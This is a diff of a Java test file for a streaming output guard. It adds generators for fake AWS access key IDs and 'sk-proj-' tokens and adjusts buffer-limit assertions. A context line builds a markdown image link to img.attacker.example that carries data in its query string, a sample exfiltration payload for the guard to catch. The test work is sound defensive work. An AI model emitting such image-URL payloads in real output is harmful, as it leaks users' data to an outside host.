@@ -63,6 +63,19 @@ class StreamingGuardTests {
 				piece = "sk-" + token(random, 24 + random.nextInt(20));
 				secrets.add(piece);
 			}
+			else if (pick == 5) {
+				// AWS access key id, found by the secret scanner on main
+				StringBuilder key = new StringBuilder("AKIA");
+				for (int k = 0; k < 16; k++) {
+					key.append("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".charAt(random.nextInt(32)));
+				}
+				piece = key.toString();
+				secrets.add(piece);
+			}
+			else if (pick == 6) {
+				piece = "sk-proj-" + token(random, 40);
+				secrets.add(piece);
+			}
 			else if (pick == 3) {
 				String data = token(random, 16 + random.nextInt(30));
 				piece = "![status chart](https://img.attacker.example/p.png?d=" + data + ")";
@@ -167,8 +180,9 @@ class StreamingGuardTests {
 			}
 		}
 		assertThat(receivedAtFirstEmission).isPositive()
-			.isLessThanOrEqualTo(StreamingGuard.DEFAULT_LOOKAHEAD + 2 * 6L + 5);
-		assertThat(session.maxHeld()).isLessThan(StreamingGuard.DEFAULT_LOOKAHEAD + 20);
+			.isLessThanOrEqualTo(StreamingGuard.DEFAULT_LOOKAHEAD + StreamingGuard.DEFAULT_MIN_RELEASE + 2 * 6L + 5);
+		assertThat(session.maxHeld())
+			.isLessThan(StreamingGuard.DEFAULT_LOOKAHEAD + StreamingGuard.DEFAULT_MIN_RELEASE + 20);
 	}
 
 	@Test
